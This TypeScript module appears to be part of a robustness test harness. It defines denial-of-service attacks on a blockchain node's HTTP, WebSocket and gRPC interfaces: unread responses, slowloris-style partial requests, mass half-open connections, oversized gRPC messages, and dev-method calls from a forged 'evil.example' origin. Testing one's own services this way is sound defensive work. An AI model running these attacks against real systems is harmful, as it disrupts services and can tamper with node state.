/** Attacks by connections: clients that do not read, send slowly, never finish, or disconnect. */
import { once } from 'node:events'
import type { ClientHttp2Session, IncomingHttpHeaders } from 'node:http2'
import { callOf, ENDLESS, NOBODY } from './code.ts'
import {
  type Attack,
  call,
  cometSocketUrl,
  connectSocket,
  countBeginning,
  holdOpen,
  openGrpc,
  openUnread,
  readBeginning,
  repeat,
  send,
} from './target.ts'

/** Returns two megabytes of zeros: PUSH3 size, PUSH0, RETURN. */
const LONG_ANSWER = '0x620fffff5ff3'

const httpPost = (body: string): string =>
  `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`

/** 300 HTTP clients request 25 MB each, twice, and read nothing but the beginning. */
export const unreadHttp: Attack = async (target) => {
  const request = httpPost(JSON.stringify(Array.from({ length: 12 }, (_, id) => callOf(LONG_ANSWER, id))))
  return (stop, count) =>
    holdOpen(300, stop, count, async () => {
      const socket = await connectSocket(target, target.config.urls.jsonrpc)
      countBeginning(socket, count)
      readBeginning(socket, { pause: () => socket.pause(), write: () => socket.write('\r\n') })
      // The second request waits until the answer to the first is taken.
      socket.write(request + request)
      return socket
    })
}

/** 20 clients pipeline requests without end behind one whose answer takes long. */
export const pipelined: Attack = async (target) => {
  const first = httpPost(JSON.stringify(callOf(ENDLESS)))
  const more = Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(1000))
  return (stop, count) =>
    holdOpen(20, stop, count, async () => {
      const socket = await connectSocket(target, target.config.urls.jsonrpc)
      countBeginning(socket, count)
      readBeginning(socket, { pause: () => socket.pause(), write: () => {} })
      socket.write(first)
      const sendMore = (): void => {
        // In the next turn of the event loop, which writes that end at once would keep from every other connection.
        socket.write(more, (error) => {
          if (!error && !socket.destroyed) setImmediate(sendMore)
        })
      }
      sendMore()
      return socket
    })
}

/** 40 WebSocket clients request 200 MB each and read nothing but the beginning. */
export const unreadWebSocket: Attack = async (target) => (stop, count) =>
  holdOpen(40, stop, count, async () => {
    const socket = await openUnread(target, target.config.urls.ws, count)
    for (let id = 0; id < 100; id++) socket.send(JSON.stringify(callOf(LONG_ANSWER, id)))
    return socket
  })

/** 40 clients of the CometBFT WebSocket subscribe to everything, request long answers and read nothing but the beginning. */
export const unreadEvents: Attack = async (target) => (stop, count) =>
  holdOpen(40, stop, count, async () => {
    const socket = await openUnread(target, cometSocketUrl(target), count)
    for (const event of ['NewBlock', 'NewBlockEvents', 'Tx']) {
      socket.send(JSON.stringify(call('subscribe', { query: `tm.event='${event}'` }, event)))
    }
    for (let id = 0; id < 2000; id++) socket.send(JSON.stringify(call('genesis', {}, id)))
    return socket
  })

/** Every account in one page: the first field of the page request is its limit. */
const EVERY_ACCOUNT = Buffer.from([0, 0, 0, 0, 5, 0x0a, 0x03, 0x18, 0xe8, 0x07])

const unary = (path: string) => ({
  ':method': 'POST',
  ':path': path,
  'content-type': 'application/grpc',
  te: 'trailers',
})

/** 40 gRPC clients make 250 calls each and take no byte. */
export const unreadGrpc: Attack = async (target) => (stop, count) =>
  holdOpen(40, stop, count, () => {
    const session = openGrpc(target, 0)
    for (let i = 0; i < 250; i++) {
      const stream = session.request(unary('/sdk.auth.v1beta1.Query/Accounts'))
      stream.on('error', () => {})
      // Headers come without a window.
      stream.once('response', ({ ':status': status }) => count(`status ${status}`))
      stream.end(EVERY_ACCOUNT)
    }
    return session
  })

/** A gRPC message of nine megabytes: fields that the request does not have, two bytes each. */
const FIELDS_BYTES = 9_000_000
const FIELDS_HEAD = Buffer.alloc(5)
FIELDS_HEAD.writeUInt32BE(FIELDS_BYTES, 1)
const FIELDS = Buffer.concat([FIELDS_HEAD, Buffer.alloc(FIELDS_BYTES, Buffer.from([0x78, 0]))])

/** Two gRPC clients send requests of millions of fields. */
export const manyFields: Attack = async (target) => {
  const sessions = [openGrpc(target), openGrpc(target)]
  let next = 0
  const nextSession = (): ClientHttp2Session => {
    const number = next++ % 2
    // A node can ask its clients to connect again.
    if (sessions[number]!.closed || sessions[number]!.destroyed) sessions[number] = openGrpc(target)
    return sessions[number]!
  }
  return (stop, count) =>
    repeat(2, stop, count, async () => {
      const stream = nextSession().request(unary('/sdk.bank.v1beta1.Query/TotalSupply'))
      stream.end(FIELDS)
      let code = 'disconnected'
      for (const event of ['response', 'trailers'])
        stream.once(event, (headers: IncomingHttpHeaders) => {
          if (headers['grpc-status'] !== undefined) code = `code ${headers['grpc-status']}`
        })
      stream.on('error', () => {})
      stream.resume()
      await once(stream, 'close')
      return code
    })
}

const SLOW_BODY_BYTES = 5_000_000

/** 200 clients send a body of 5 MB except for its last byte, and wait. */
export const slowBodies: Attack = async (target) => {
  const most = Buffer.alloc(SLOW_BODY_BYTES - 1, 0x20)
  const head = `POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${SLOW_BODY_BYTES}\r\n\r\n`
  return (stop, count) =>
    holdOpen(200, stop, count, async () => {
      const socket = await connectSocket(target, target.config.urls.jsonrpc)
      countBeginning(socket, count)
      socket.write(head)
      socket.write(most, (error) => error || count('taken'))
      return socket
    })
}

/** 1,500 connections, of which a third sends nothing, a third half a head, and a third half a body. */
export const halfOpen: Attack = async (target) => {
  const beginnings = ['', 'POST / HTTP/1.1\r\nHost: localhost\r\nX-', httpPost('{"id":1}').slice(0, -1)]
  let next = 0
  return (stop, count) =>
    holdOpen(1500, stop, count, async () => {
      const { rest, jsonrpc, comet } = target.config.urls
      const number = next++
      const socket = await connectSocket(target, [rest, jsonrpc, comet][number % 3]!)
      countBeginning(socket, count)
      socket.write(beginnings[Math.floor(number / 3) % 3]!)
      return socket
    })
}

/** Clients that send a request with half a body and disconnect. */
export const abortedPosts: Attack = async (target) => {
  const half = httpPost(JSON.stringify(callOf(ENDLESS))).slice(0, -20)
  let next = 0
  return (stop, count) =>
    repeat(4, stop, count, async () => {
      const { rest, jsonrpc, comet } = target.config.urls
      const socket = await connectSocket(target, [rest, jsonrpc, comet][next++ % 3]!)
      return new Promise((resolve) => {
        socket.once('close', () => resolve('aborted'))
        socket.write(half, () => setTimeout(() => socket.resetAndDestroy(), 2))
      })
    })
}

/** Pages of other websites, and names that were rebound to this machine, that use development methods and keys. */
export const foreignPages: Attack = async (target) => {
  const [account] = target.config.accounts
  const calls = [
    call('anvil_setBalance', [account!.address, '0x0']),
    call('eth_sendTransaction', [{ from: account!.address, to: NOBODY, value: '0x1' }]),
    call('hardhat_reset', []),
    call('evm_mine', []),
  ]
  const provenances = [{ origin: 'https://evil.example' }, { host: 'evil.example' }, { origin: 'null' }]
  let next = 0
  return (stop, count) =>
    repeat(2, stop, count, async () => {
      const body = JSON.stringify(calls[next % calls.length])
      const { text } = await send(target, target.config.urls.jsonrpc, { body, headers: provenances[next++ % 3]! })
      return JSON.parse(text).error ? 'refused' : 'executed'
    })
}
